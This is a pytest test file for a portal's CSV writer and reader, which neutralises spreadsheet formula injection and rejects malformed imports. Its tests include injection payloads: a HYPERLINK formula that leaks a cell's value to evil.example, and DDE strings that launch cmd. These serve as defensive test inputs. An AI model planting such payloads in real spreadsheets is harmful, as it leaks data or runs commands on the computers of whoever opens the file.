"""The one CSV writer and reader: cells safe to open in a spreadsheet, files that are not
CSV text refused in one sentence."""

import csv
import io
import re
from pathlib import Path

import pytest
from defusedcsv import csv as defusedcsv
from django.utils import translation
from hypothesis import example, given
from hypothesis import strategies as st

from core.csv_files import (
    MAX_CELL_CHARACTERS,
    CsvFileError,
    RowError,
    csv_records,
    csv_table,
    csv_text,
    deneutralise,
    neutralise,
)


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


# What a spreadsheet reads as the start of a formula (OWASP, plus Excel's full-width forms).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# What may start with a sign and still be harmless: a number, a telephone number. No
# letter, so no function and no cell reference.
HARMLESS = re.compile(r"[+\-]?[0-9][0-9 .,()\-]*")


def _cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def test_formulas_are_written_as_text():
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    dde = "+33 cmd|' /C calc'!A0"

    rows = _cells(
        csv_text(["name", "city"], [[hyperlink, dde], ["@SUM(A1)", "-2+3+cmd|' /C x'!A0"]])
    )

    assert rows == [
        ["name", "city"],
        ["'" + hyperlink, "'+33 cmd\\|' /C calc'!A0"],
        ["'@SUM(A1)", "'-2+3+cmd\\|' /C x'!A0"],
    ]


def test_tab_line_breaks_and_full_width_signs_are_written_as_text():
    rows = _cells(csv_text(["a"], [["\t=1+1"], ["\r=1+1"], ["\n=1"], ["\uff1dSUM(A1)"]]))

    assert [row[0] for row in rows[1:]] == ["'\t=1+1", "'\r=1+1", "'\n=1", "'\uff1dSUM(A1)"]


def test_telephone_numbers_and_numbers_stay_as_they_are():
    rows = _cells(
        csv_text(
            ["phone"],
            [["+33 4 91 00 00 00"], ["+1 (416) 555-0199"], ["+33.4.91.00.00.00"], ["-12.50"], [3]],
        )
    )

    assert [row[0] for row in rows[1:]] == [
        "+33 4 91 00 00 00",
        "+1 (416) 555-0199",
        "+33.4.91.00.00.00",
        "-12.50",
        "3",
    ]


def test_empty_cells_and_none():
    assert csv_text(["a", "b"], [["", None]]) == "\ufeffa;b\r\n;\r\n"


@given(st.text())
@example("=1+1")
@example("+33 4 91 00 00 00")
@example("\t@x")
@example("'=x")
def test_no_written_cell_reads_as_a_formula(value):
    (cell,) = _cells(csv_text(["a"], [[value]]))[1]

    if cell.startswith(FORMULA_STARTS):
        assert HARMLESS.fullmatch(cell), cell


@given(st.text().filter(lambda v: not v.startswith("'") and "\\|" not in v))
def test_what_is_written_reads_back_the_same(value):
    """An export opened by the portal's own import gives the values exported."""
    (cell,) = _cells(csv_text(["a"], [[value]]))[1]

    assert deneutralise(cell) == value


def _every_cell_defused(header, rows) -> str:
    """The writer before plain rows were written as they are: every cell through
    ``neutralise`` and defusedcsv."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = defusedcsv.writer(out, delimiter=";", lineterminator="\r\n")
    for row in [header, *rows]:
        writer.writerow([neutralise(cell) for cell in row])
    return out.getvalue()


cells = st.one_of(
    st.text(),
    st.text(st.sampled_from("=+-@|%\t\r\n\uff1d'a1 .;\""), max_size=5),
    st.integers(),
    st.decimals(allow_nan=False, places=2),
    st.none(),
    st.booleans(),
)


@given(st.lists(st.text(max_size=5), max_size=4), st.lists(st.lists(cells, max_size=5)))
def test_rows_read_as_when_every_cell_went_through_defusedcsv(header, rows):
    assert csv_text(header, rows) == _every_cell_defused(header, rows)


# Reading ---------------------------------------------------------------------------


def test_records_read_in_either_delimiter_and_encoding():
    for raw in (
        "\ufeffName;City\r\nÉole;Aix\r\n\r\n".encode(),
        "Name,City\r\nÉole,Aix\r\n".encode("cp1252"),
    ):
        assert csv_records(raw, columns=["name", "city"], required=["name"]) == (
            [(2, {"name": "Éole", "city": "Aix"})],
            [],
        )


def test_records_take_off_the_apostrophe_the_writer_added():
    exported = csv_text(["name", "phone"], [["=HYPERLINK(1)", "+33 4 91 00 00 00"]])

    records, errors = csv_records(exported.encode(), columns=["name", "phone"], required=[])

    assert errors == []
    assert records == [(2, {"name": "=HYPERLINK(1)", "phone": "+33 4 91 00 00 00"})]


def test_missing_columns_are_one_error():
    assert csv_records(b"name\r\nx\r\n", columns=["name", "city"], required=["city"]) == (
        [],
        [RowError(1, "", "Missing columns: city.")],
    )


NOT_TEXT = (
    "This file is not a CSV text file: save it from your spreadsheet as “CSV UTF-8 "
    "(comma delimited)” and try again."
)


def test_random_bytes_are_refused_in_one_sentence():
    # 0x81 is neither UTF-8 nor Windows-1252.
    raw = bytes(range(256)) * 800

    records = csv_records(raw, columns=["name"], required=["name"])

    assert records == ([], [RowError(1, "", NOT_TEXT)])


def test_nul_and_control_characters_are_refused():
    for raw in (b"name\r\nab\x00c\r\n", b"name\r\nab\x1bc\r\n", "name\r\né\x00".encode("cp1252")):
        try:
            csv_table(raw)
        except CsvFileError as error:
            assert str(error) == NOT_TEXT
        else:
            raise AssertionError(f"{raw!r} was read")


def test_a_cell_beyond_the_parser_limit_is_refused_in_one_sentence():
    for length in (MAX_CELL_CHARACTERS + 1, 131_073, 400_000):
        raw = ("name;city\r\nx;" + "y" * length + "\r\n").encode()

        assert csv_records(raw, columns=["name"], required=["name"]) == (
            [],
            [RowError(1, "", "A cell of the file holds more than 100,000 characters.")],
        )


def test_the_cell_limit_reads_in_french():
    raw = ("name\r\n" + "y" * 131_073 + "\r\n").encode()

    with translation.override("fr"):
        _records, errors = csv_records(raw, columns=["name"], required=["name"])

    assert errors == [
        RowError(1, "", "Une cellule du fichier contient plus de 100\xa0000 caractères.")
    ]


@given(st.binary(max_size=4000))
def test_any_bytes_give_rows_or_one_sentence(raw):
    records, errors = csv_records(raw, columns=["name", "city"], required=["name"])

    assert (records == []) or (errors == [])
    for _line, value in records:
        assert set(value) == {"name", "city"}
        assert all("\x00" not in cell for cell in value.values())


def test_only_the_kernel_writes_or_reads_csv():
    """One writer for every export, one reader for every import: no other module of the
    portal imports the csv module (tests and benchmarks aside)."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not {".venv", "tests", "bench", "migrations"} & set(path.relative_to(root).parts)
        and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.MULTILINE)
    ]

    assert offenders == ["core/csv_files.py"]
